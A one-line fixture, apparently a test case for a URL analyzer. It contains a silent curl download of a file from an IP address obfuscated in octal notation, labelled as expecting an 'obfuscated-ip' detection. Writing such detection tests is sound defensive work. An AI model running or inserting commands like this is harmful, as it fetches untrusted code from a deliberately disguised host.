curl -s http://0313.0.0161.011/i -o i # expect: url-analyzer/obfuscated-ip
